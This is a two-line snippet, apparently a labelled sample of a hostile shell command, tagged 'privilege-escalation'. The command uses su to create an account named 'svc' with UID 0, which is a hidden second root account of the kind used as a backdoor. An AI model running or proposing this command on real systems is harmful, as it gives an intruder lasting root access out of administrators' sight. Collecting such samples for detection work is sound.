# privilege-escalation: su -c runs a command as root
su -c 'useradd -o -u 0 -g 0 -M -N svc' root
